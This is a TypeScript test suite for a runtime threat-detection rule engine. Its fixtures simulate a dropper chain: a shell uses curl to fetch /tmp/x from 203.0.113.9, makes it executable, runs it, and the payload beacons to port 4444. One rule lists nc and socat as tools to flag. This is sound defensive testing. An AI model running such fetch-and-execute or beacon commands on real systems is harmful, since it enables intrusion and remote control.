import assert from "node:assert/strict";
import { test } from "node:test";
import type { SensorEvent } from "../sense/sensor.ts";
import { beginMs, compiled, connect, engineOf, exec, file, inShop } from "./rules.fixture.ts";

const ours = (name: string, spec: object): object => ({
  apiVersion: "garrison/v1",
  kind: "GarrisonRule",
  metadata: { name },
  spec: { severity: "high", output: "%proc.name %fd.name", ...spec },
});

const dropper = ours("dropper", {
  techniques: ["T1105"],
  sequence: {
    by: "ancestry",
    within: "5m",
    steps: [
      { name: "download", condition: "evt.type = execve and proc.name in (curl, wget)" },
      {
        name: "chmod",
        condition: 'evt.type in (chmod, fchmodat) and evt.arg.mode contains "S_IXUSR"',
        bind: { file: "fd.name" },
      },
      {
        name: "exec",
        condition: "evt.type = execve and proc.exepath startswith /tmp/",
        bind: { file: "proc.exepath" },
      },
      { name: "beacon", condition: "evt.type = connect and not fd.snet in (10.0.0.0/8)" },
    ],
  },
});

/** A shell (10) downloads, marks, runs; what runs (13) calls home. */
const story: readonly SensorEvent[] = [
  exec(10, 1, ["/bin/sh"], 0),
  exec(11, 10, ["/usr/bin/curl", "-o", "/tmp/x", "http://203.0.113.9/x"], 1000),
  exec(12, 10, ["/bin/chmod", "+x", "/tmp/x"], 2000),
  file(12, "chmod", "/tmp/x", { atMs: 2001, mode: 0o755 }),
  exec(13, 10, ["/tmp/x"], 3000),
  connect(13, "203.0.113.9", 4444, 4000),
];

test("download, chmod, exec, beacon fire once, with ordered evidence", () => {
  const { detector, told } = engineOf(compiled(dropper));
  detector.take(
    [...story, connect(13, "203.0.113.9", 4444, 5000), connect(13, "203.0.113.9", 4444, 6000)],
    () => inShop,
  );
  assert.equal(told.length, 1);
  const [detection] = told;
  assert.deepEqual(
    detection?.evidence.map(({ kind }) => kind),
    ["1 download: execve", "2 chmod: fchmodat", "3 exec: execve", "4 beacon: connect"],
  );
  assert.deepEqual(
    detection?.evidence.map(({ timeMs }) => timeMs - beginMs),
    [1000, 2001, 3000, 4000],
  );
  assert.deepEqual([detection?.severity, detection?.techniques, detection?.kind], ["high", ["T1105"], "sequence"]);
});

test("in any order of arrival the same is told", () => {
  // The shell and its children must be known before; what they do may come as it likes.
  const [shell, ...rest] = story;
  const orders = [
    [0, 1, 2, 3, 4],
    [1, 0, 3, 2, 4],
    [4, 3, 2, 1, 0],
    [3, 4, 0, 1, 2],
  ];
  for (const order of orders) {
    const starts = rest
      .filter(({ type }) => type === "exec")
      .map((event) => ({ ...event, type: "running" }) as SensorEvent);
    const { detector, told } = engineOf(compiled(dropper));
    detector.take([shell as SensorEvent, ...starts, ...order.map((index) => rest[index] as SensorEvent)], () => inShop);
    assert.deepEqual(
      told.map(({ evidence }) => evidence.map(({ timeMs }) => timeMs - beginMs)),
      [[1000, 2001, 3000, 4000]],
      String(order),
    );
  }
});

const misses: readonly (readonly [why: string, events: readonly SensorEvent[]])[] = [
  [
    "another file is run",
    story.map((event) => (event.type === "exec" && event.path === "/tmp/x" ? { ...event, path: "/tmp/y" } : event)),
  ],
  [
    "the beacon comes too late",
    story.map((event) => (event.type === "tcp-open" ? { ...event, timeMs: beginMs + 400_000 } : event)),
  ],
  [
    "another tree beacons",
    story.map((event) => (event.type === "tcp-open" ? { ...event, process: { pid: 99, startMs: 99 } } : event)),
  ],
  [
    "the steps stand in another order",
    story.map((event) => (event.type === "file" ? { ...event, timeMs: beginMs + 3500 } : event)),
  ],
  ["a step is missing", story.filter(({ type }) => type !== "file")],
];
for (const [why, events] of misses)
  test(`the sequence does not fire: ${why}`, () => {
    const { detector, told } = engineOf(compiled(dropper));
    detector.take(events, () => inShop);
    assert.equal(told.length, 0);
  });

test("threshold: so many within the time, distinct values counted once", () => {
  const scan = ours("scan", {
    threshold: { condition: "evt.type = connect", count: 3, within: "10s", by: "process", distinct: "fd.sport" },
  });
  const { detector, told } = engineOf(compiled(scan));
  const at = (port: number, atMs: number): SensorEvent => connect(20, "10.0.0.9", port, atMs);
  detector.take([exec(20, 1, ["/usr/bin/nmap"]), at(1, 0), at(1, 10), at(2, 20), at(3, 20_000)], () => inShop);
  assert.equal(told.length, 0);
  detector.take([at(4, 20_001), at(5, 20_002)], () => inShop);
  assert.deepEqual(
    told.map(({ count, evidence }) => [count, evidence.length]),
    [[3, 3]],
  );
});

test("absence: told when what should follow did not come, also when it came first", () => {
  const absent = ours("no-answer", {
    absence: {
      after: "evt.type = execve and proc.name = backup",
      without: "evt.type = rename",
      within: "10s",
      by: "process",
    },
  });
  const { detector, told } = engineOf(compiled(absent));
  const done: SensorEvent = { ...file(31, "rename", "/a", { atMs: 5000, target: "/b" }), call: "rename" };
  detector.take([exec(30, 1, ["/backup"], 0), exec(31, 1, ["/backup"], 0), done], () => inShop);
  detector.tick(beginMs + 11_000);
  assert.equal(told.length, 0, "lateness is waited for");
  detector.tick(beginMs + 13_000);
  assert.deepEqual(
    told.map(({ process }) => process.pid),
    [30],
  );
});

test("baseline: what a workload did not do while it was learnt is told once", () => {
  const first = ours("new-program", {
    baseline: { condition: "evt.type = execve", fields: ["proc.exepath"], by: "workload", learn: "1m" },
  });
  const { detector, told } = engineOf(compiled(first));
  detector.take(
    [
      exec(40, 1, ["/a"], 0),
      exec(41, 1, ["/b"], 59_000),
      exec(42, 1, ["/a"], 61_000),
      exec(43, 1, ["/c"], 62_000),
      exec(44, 1, ["/c"], 63_000),
    ],
    () => inShop,
  );
  assert.deepEqual(
    told.map(({ executable }) => executable),
    ["/c"],
  );
});

test("unknown keys and forms are refused with the nearest known one", () => {
  const cases: readonly (readonly [object, RegExp])[] = [
    [{ sequnce: {} }, /sequence/],
    [{ sequence: { by: "proces", within: "5m", steps: [] } }, /process/],
    [{ threshold: { condition: "evt.type = open", cout: 3, within: "1m" } }, /count/],
    [{ condition: "evt.type = open", severity: "hgh" }, /high/],
  ];
  for (const [spec, hint] of cases) {
    const { rules, problems } = compiled(ours("x", spec));
    assert.equal(rules.summaries.length, 0);
    assert.match(problems.map((problem) => problem.hint).join(" "), hint, JSON.stringify(spec));
  }
});

test("all that is wrong in one rule is told in one go", () => {
  const { rules, problems } = compiled(
    ours("x", {
      severity: "hgh",
      techniques: ["T1"],
      outpt: "o",
      threshold: { condition: "evt.typ = open", count: 3, within: "1m", fields: ["proc.nme"] },
    }),
    ours("y", { output: "%fd.nam", sequence: { by: "proces", within: "5x", fields: [1, {}], steps: [] } }),
  );
  const told = problems.map(({ item, message }) => `${item}: ${message}`).join("\n");
  for (const pattern of [
    /x: severity cannot be "hgh"/,
    /x: `techniques`/,
    /x: unknown key "outpt"/,
    /x: .*"evt\.typ"/,
    /x: .*"proc\.nme"/,
    /y: by cannot be "proces"/,
    /y: `within`/,
    /y: `fields`/,
  ])
    assert.match(told, pattern);
  assert.deepEqual(rules.summaries, []);
});

test("own macros and lists, and exceptions", () => {
  const { detector, told } = engineOf(
    compiled(
      ours("own", {
        condition: "started and proc.name in (tools)",
        macros: { started: "evt.type = execve" },
        lists: { tools: ["nc", "socat"] },
        exceptions: [{ name: "ok", fields: ["proc.args"], values: [["--version"]] }],
      }),
    ),
  );
  detector.take([exec(50, 1, ["/nc", "-l"]), exec(51, 1, ["/nc", "--version"]), exec(52, 1, ["/cat"])], () => inShop);
  assert.deepEqual(
    told.map(({ process }) => process.pid),
    [50],
  );
});

test("states are bounded and what falls out is counted", () => {
  const many = ours("many", {
    threshold: { condition: "evt.type = connect", count: 100, within: "1h", by: "process" },
  });
  const { detector } = engineOf(compiled(many), { limits: { statesOfRuleMax: 10 } });
  const events = Array.from({ length: 50 }, (_, index): SensorEvent[] => [
    exec(100 + index, 1, ["/a"]),
    connect(100 + index, "10.0.0.1", 80),
  ]).flat();
  detector.take(events, () => inShop);
  assert.equal(detector.stats().statesDropped, 40);
  assert.equal(detector.rules()[0]?.stateDropped, 40);
});

test("the rate of a rule and workload is limited, and what was kept back is told with the next", () => {
  const { detector, told } = engineOf(compiled(ours("noisy", { condition: "evt.type = execve" })), {
    limits: { rateBurst: 2, rateEveryMs: 1000 },
  });
  detector.take(
    [0, 1, 2, 3, 1500].map((atMs) => exec(60 + atMs, 1, ["/a"], atMs)),
    () => inShop,
  );
  assert.deepEqual(
    told.map(({ suppressedBefore }) => suppressedBefore),
    [0, 0, 2],
  );
  assert.deepEqual(
    [detector.stats().suppressed, detector.rules()[0]?.suppressed, detector.rules()[0]?.hits],
    [2, 2, 3],
  );
});
